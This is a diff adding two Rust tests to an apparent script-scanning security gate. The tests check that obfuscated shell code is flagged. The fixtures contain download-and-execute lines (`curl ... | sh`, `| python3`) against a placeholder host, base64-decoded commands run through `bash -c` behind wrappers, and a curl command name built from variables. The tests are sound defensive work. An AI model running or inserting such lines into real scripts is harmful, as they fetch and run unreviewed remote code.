@@ -431,3 +431,39 @@ fn find_delete_and_rmtree_of_the_root_or_home() {
         ]
     );
 }
+
+#[test]
+fn decoded_code_behind_a_wrapper_whose_operand_is_a_variable() {
+    // `timeout "$T"` read `"$T"` as the command (30, a fixed value): the decoded code that
+    // `bash -c` runs was never looked at, nor a download piped into a shell.
+    let (tier, sensitive, _) = gate(&[(
+        "scripts/run.sh",
+        "#!/bin/bash\nT=30\ntimeout \"$T\" bash -c \"$(echo ZWNobyBoaQ== | base64 -d)\"\nP=5\nnice -n \"$P\" ionice -c 3 chrt \"$P\" taskset \"$P\" stdbuf -o L sh -c \"$(echo ZWNobw== | base64 -d)\"\ntimeout \"$T\" curl -s https://get.example.net/i | sh\n",
+    )]);
+    assert_eq!(tier, "human");
+    assert_eq!(
+        sensitive,
+        vec![
+            "obfuscated code: decoded code run: bash -c \"$(echo ZWNobyBoaQ== | base64 -d)\" (base64) (scripts/run.sh:3)",
+            "obfuscated code: decoded code run: sh -c \"$(echo ZWNobw== | base64 -d)\" (base64) (scripts/run.sh:5)",
+            "remote code: curl | sh (scripts/run.sh:6)",
+        ]
+    );
+}
+
+#[test]
+fn letters_from_variables_are_obfuscation_and_a_version_is_not_a_disguise() {
+    // `python${V}` with a version is a program; `c${u}l` takes letters from a variable.
+    let (tier, sensitive, _) = gate(&[(
+        "scripts/run.sh",
+        "#!/bin/bash\nu=ur\nV=3\nc${u}l -s https://get.example.net/i | python${V}\n",
+    )]);
+    assert_eq!(tier, "human");
+    assert_eq!(
+        sensitive,
+        vec![
+            "obfuscated code: command name assembled from variables: c${u}l (runs curl) (scripts/run.sh:4)",
+            "remote code: curl | python3 (scripts/run.sh:4)",
+        ]
+    );
+}
